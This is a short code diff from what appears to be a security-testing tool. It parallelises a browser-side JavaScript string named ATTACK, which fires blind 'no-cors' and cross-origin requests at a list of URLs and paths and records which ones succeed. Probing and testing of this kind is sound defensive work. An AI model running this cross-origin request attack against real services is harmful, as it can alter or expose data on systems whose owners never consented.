@@ -56,14 +56,17 @@ REQUESTS = [
 ATTACK = """async ([urls, requests]) => {
     const read = [];
     const bounded = (url, options) => fetch(url, {...options, signal: AbortSignal.timeout(3000)});
-    for (const url of urls) for (const [method, path, body] of requests) {
+    const attack = async (url, [method, path, body]) => {
         const sent = method === "POST" ? {method, body} : {method};
         await bounded(url + path, {...sent, mode: "no-cors"}).catch(() => 0);
         for (const headers of [{}, {"Content-Type": "application/json"}])
             await bounded(url + path, {...sent, headers}).then((answer) => {
                 if (answer.ok) read.push(`${method} ${url}${path}`);
             }).catch(() => 0);
-    }
+    };
+    await Promise.all(urls.map(async (url) => {
+        for (const request of requests) await attack(url, request);
+    }));
     return read;
 }"""
 
